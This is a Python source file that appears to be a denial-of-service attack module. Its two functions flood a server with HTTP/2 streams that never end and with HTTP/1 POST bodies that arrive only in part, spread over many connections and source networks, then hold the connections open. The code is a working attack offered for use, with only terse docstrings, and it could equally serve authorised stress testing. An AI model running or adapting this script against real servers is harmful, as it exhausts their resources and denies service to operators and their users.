"""Requests that are answered before they end, and never end: what they hold is there although nobody waits for it."""
import time

import http2
from wire import post


def h2(attack, fields=0, networks=3, connections=600):
    """Streams without an end whose answers are read."""
    more = [(f"x-{index}", "v" * 360) for index in range(fields)]

    def one(index):
        made = http2.Connection(attack.tls(index % networks, "h2", window=4_096))
        made.socket.settimeout(1)
        made.send(*(http2.request(2 * stream + 1, "/api/v1/entries", "POST", None, more, is_end=False)
                    for stream in range(32)))
        attack.count("streams", 32)
        end = time.monotonic() + 1
        try:
            while len(made.ended) < 32 and time.monotonic() < end and not made.is_over:
                made.read()
        except OSError:
            pass
        return made

    attack.crowd(attack.scaled(connections), one)
    attack.hold()


def h1(attack, networks=8, connections=1_450):
    """A body of which a part comes, for a route that does not want it."""
    def one(index):
        made = attack.tls(index % networks, window=4_096)
        made.settimeout(0.3)
        made.sendall(post("/nope", 4_000_000))
        try:
            for _ in range(60):
                made.sendall(b"a" * 16_384)
                attack.count("kB", 16)
        except OSError:
            attack.count("stalled")
        return made

    attack.crowd(attack.scaled(connections), one, threads=32)
    attack.hold()
